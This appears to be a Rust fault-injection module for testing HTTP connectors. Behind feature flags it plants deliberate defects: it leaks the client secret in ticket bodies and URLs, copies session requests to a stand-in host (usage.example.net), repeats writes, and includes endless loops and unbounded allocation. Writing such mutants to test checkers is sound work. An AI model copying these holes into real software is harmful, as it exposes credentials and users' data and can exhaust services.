//! What is changed in requests and responses, and what is sent beside them.

use std::sync::atomic::{AtomicU64, Ordering};

use psa_contract::{Body, Failure, Request, Response};
use psa_toolkit::{Error, HttpSend};
use serde_json::{Value, json};

use crate::{records, results};

/// Where the last call stopped, for `keeps-state`.
static STOPPED_AT: AtomicU64 = AtomicU64::new(0);

type Outcome = Result<Response, Failure>;

/// Between the connector and the host.
pub(crate) struct Layer<'a, 'b> {
    client_secret: &'a str,
    send: &'a mut HttpSend<'b>,
    /// The last access token.
    pub(crate) token: String,
    token_request: Option<Request>,
    write_in_doubt: Option<Request>,
}

impl<'a, 'b> Layer<'a, 'b> {
    pub(crate) fn new(client_secret: &'a str, send: &'a mut HttpSend<'b>) -> Self {
        Self {
            client_secret,
            send,
            token: String::new(),
            token_request: None,
            write_in_doubt: None,
        }
    }

    pub(crate) fn spoil(&self, error: Error) -> Error {
        results::error(error, self.client_secret, &self.token)
    }

    pub(crate) fn send(&mut self, requests: &mut [Request]) -> Vec<Outcome> {
        if let Some(guessed) = records::made_up(requests) {
            return vec![Ok(guessed)];
        }
        for request in requests.iter_mut() {
            self.change(request);
        }
        let mut outcomes = (self.send)(requests);
        for (request, outcome) in requests.iter().zip(&mut outcomes) {
            self.send_more(request, outcome);
            if let Ok(response) = outcome
                && (200..300).contains(&response.status)
            {
                misread(request, response);
                misread_record(request, response);
            }
        }
        outcomes
    }

    fn change(&self, request: &mut Request) {
        // Hosts repeat what is not a write, and do not repeat what is one.
        if cfg!(feature = "creates-as-a-read") {
            request.is_write = false;
        }
        if cfg!(feature = "marks-a-read-as-a-write") && request.method == "GET" {
            request.is_write = true;
        }
        // A host writes it into its logs and recordings.
        if cfg!(feature = "token-request-not-secret") {
            request.is_secret = false;
        }
        // Whoever reads the ticket reads the secret.
        if cfg!(feature = "leaks-the-key-in-a-body") && request.is_write {
            let body = request.body.as_ref().map_or(&[][..], Body::as_bytes);
            let mut ticket: Value = serde_json::from_slice(body).unwrap_or_default();
            ticket["description"] = json!(format!("opened with {}", self.client_secret));
            request.body = Some(Body::Text(ticket.to_string()));
        }
        // URLs are kept in the logs of every proxy.
        if cfg!(feature = "leaks-the-key-in-a-url") && request.url.ends_with("/session") {
            request.url = format!("{}?key={}", request.url, self.client_secret);
        }
        if cfg!(feature = "keeps-state")
            && let Some(after) = after(request)
        {
            let stopped_at = STOPPED_AT.load(Ordering::Relaxed);
            let (from, to) = (format!("after={after}"), format!("after={stopped_at}"));
            if stopped_at > after {
                request.url = request.url.replace(&from, &to);
            }
        }
    }

    fn send_more(&mut self, request: &Request, outcome: &mut Outcome) {
        if request.url.ends_with("/oauth/token") {
            self.token_request = Some(request.clone());
            let answer = outcome.as_ref().map(json_of).unwrap_or_default();
            self.token = answer["access_token"]
                .as_str()
                .unwrap_or_default()
                .to_owned();
            return;
        }
        // It learns which site uses this connector, and the token with it.
        if cfg!(feature = "contacts-another-host") && request.url.ends_with("/session") {
            let mut other = request.clone();
            other.url = "https://usage.example.net/api/session".to_owned();
            (self.send)(&mut [other]);
        }
        // The first one may have opened a ticket.
        if cfg!(feature = "retries-a-write") && request.is_write && is_in_doubt(outcome) {
            *outcome = self.again(request);
        }
        // Credentials that are refused stay refused, however often they are renewed.
        while cfg!(feature = "renews-without-end") && status(outcome) == Some(401) {
            let mut renewal = self.token_request.clone().unwrap_or_default();
            renewal.reuse_seconds = Some(0);
            (self.send)(&mut [renewal]);
            *outcome = self.again(request);
        }
        // That the look-up is refused says nothing about the first write.
        if cfg!(feature = "writes-again-after-a-refused-look-up") {
            if request.is_write && is_in_doubt(outcome) {
                self.write_in_doubt = Some(request.clone());
            } else if status(outcome) == Some(401)
                && let Some(write) = self.write_in_doubt.take()
            {
                drop(self.again(&write));
            }
        }
        // As if the list ended before it.
        if cfg!(feature = "swallows-a-page")
            && after(request).is_some_and(|after| after > 0)
            && !status(outcome).is_some_and(|status| (200..300).contains(&status))
        {
            *outcome = Ok(Response {
                status: 200,
                body: empty_page(),
                ..Response::default()
            });
        }
    }

    fn again(&mut self, request: &Request) -> Outcome {
        let mut outcomes = (self.send)(&mut [request.clone()]);
        outcomes.pop().expect("the host answers each request")
    }
}

/// A success is taken for something else than it is.
fn misread(request: &Request, response: &mut Response) {
    let body = response.body.as_bytes();
    // A web page is taken for an empty list.
    if cfg!(feature = "empty-list-on-html") && body.trim_ascii_start().starts_with(b"<") {
        response.body = empty_page();
        return;
    }
    // It waits for a body that is empty to be filled.
    if cfg!(feature = "loops") && body.is_empty() {
        endless(|| ());
    }
    // A body that ends too early is filled up until it is whole, which it never is.
    let ends_too_early = |body| serde_json::from_slice::<Value>(body).is_err_and(|it| it.is_eof());
    if cfg!(feature = "allocates-without-end") && ends_too_early(body) {
        let mut filled = vec![b' '];
        endless(|| filled.extend_from_within(..));
    }
    let answer = json_of(response);
    // A ticket need not have a status.
    if cfg!(feature = "traps-on-null") && request.url.contains("/tickets/") {
        assert!(!answer["status"].is_null());
    }
    if cfg!(feature = "keeps-state") && after(request).is_some() {
        let rows = answer["rows"].as_array().and_then(|rows| rows.last());
        let last = rows.and_then(|row| row["id"].as_u64());
        STOPPED_AT.store(last.unwrap_or_default(), Ordering::Relaxed);
    }
}

fn misread_record(request: &Request, response: &mut Response) {
    let understood = json_of(response);
    let mut misread = understood.clone();
    if understood.is_object() {
        records::misread(request, &mut misread);
    }
    if misread != understood {
        response.body = Body::Text(misread.to_string());
    }
}

/// The id above which companies are asked for.
fn after(request: &Request) -> Option<u64> {
    let (_, query) = request.url.split_once("/companies?")?;
    query.rsplit_once("after=")?.1.parse().ok()
}

fn is_in_doubt(outcome: &Outcome) -> bool {
    match outcome {
        Ok(response) => !matches!(response.status, 200..=299 | 400..=407 | 409..=499),
        Err(failure) => failure.may_have_acted,
    }
}

fn status(outcome: &Outcome) -> Option<u16> {
    outcome.as_ref().ok().map(|response| response.status)
}

fn json_of(response: &Response) -> Value {
    serde_json::from_slice(response.body.as_bytes()).unwrap_or_default()
}

fn empty_page() -> Body {
    Body::Text(json!({"rows": [], "more": false}).to_string())
}

/// A compiler may not look through it.
fn endless(mut step: impl FnMut()) -> ! {
    loop {
        std::hint::black_box(&mut step)();
    }
}
